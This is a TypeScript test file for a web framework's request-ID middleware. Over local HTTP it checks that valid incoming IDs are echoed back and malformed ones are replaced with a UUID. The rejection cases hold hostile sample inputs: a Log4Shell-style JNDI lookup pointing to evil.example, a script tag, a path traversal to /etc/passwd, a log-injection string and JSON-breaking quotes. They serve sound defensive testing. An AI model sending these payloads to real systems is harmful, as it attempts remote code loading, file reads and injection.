import { request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { type ServerType, serve } from "@hono/node-server";
import { Hono } from "hono";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AppError, createErrorHandler } from "../errors.ts";
import { requestIds } from "./request-id.ts";

// Over real HTTP, so the hostile values are the bytes a client can really put on the wire.

let server: ServerType;
let port: number;
beforeAll(async () => {
  const app = new Hono()
    .use(requestIds())
    .get("/ok", (c) => c.json({ requestId: c.get("requestId") }))
    .get("/fails", () => {
      throw new AppError(409, "conflict", "No.");
    });
  app.onError(createErrorHandler(() => {}));
  await new Promise<void>((resolve) => {
    server = serve({ fetch: app.fetch, port: 0, hostname: "127.0.0.1" }, () => resolve());
  });
  port = (server.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** Sends the header's raw bytes (fetch would refuse or re-encode some of them). */
function get(
  path: string,
  requestId?: string,
): Promise<{ header: string; body: { requestId?: string; error?: { requestId: string } } }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: "127.0.0.1",
        port,
        path,
        headers: requestId === undefined ? {} : { "x-request-id": requestId },
      },
      (res) => {
        let text = "";
        res.setEncoding("latin1");
        res.on("data", (chunk: string) => {
          text += chunk;
        });
        res.on("end", () => resolve({ header: String(res.headers["x-request-id"]), body: JSON.parse(text) }));
      },
    );
    req.setTimeout(5_000, () => req.destroy(new Error("no answer within 5 s")));
    req.on("error", reject);
    req.end();
  });
}

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

describe("request ids", () => {
  it("makes a fresh one when none comes in, and answers with it", async () => {
    const answer = await get("/ok");
    expect(answer.header).toMatch(UUID);
    expect(answer.body.requestId).toBe(answer.header);
  });

  it.each([
    "3f2a9c1e-7b7d-4c55-9a51-0e3c0d2f1a77",
    "haproxy.7F000001:C3A2_0A000005:1F90_65A1B2C3_0001:1A2B",
    "a",
    "x".repeat(64),
  ])("keeps a well-formed incoming one: %s", async (incoming) => {
    const answer = await get("/ok", incoming);
    expect(answer.header).toBe(incoming);
    expect(answer.body.requestId).toBe(incoming);
  });

  it.each([
    ["too long", "x".repeat(65)],
    ["a space", "abc def"],
    ["quotes", 'abc"},"admin":true'],
    ["a log-injection attempt", "id\tlevel=error msg=forged"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
    ["a lookup string", "${jndi:ldap://evil.example/a}"],
    ["HTML", "<script>alert(1)</script>"],
    ["non-ASCII bytes", "caf\u00e9"],
    ["a path", "../../etc/passwd"],
    ["empty", ""],
  ])("replaces one with %s", async (_what, incoming) => {
    const answer = await get("/ok", incoming);
    expect(answer.header).toMatch(UUID);
    expect(answer.body.requestId).toBe(answer.header);
  });

  it("puts the same (safe) id in an error body as in the header", async () => {
    const kept = await get("/fails", "support-ref-42");
    expect(kept.body.error?.requestId).toBe("support-ref-42");
    const replaced = await get("/fails", "<evil>");
    expect(replaced.header).toMatch(UUID);
    expect(replaced.body.error?.requestId).toBe(replaced.header);
  });
});
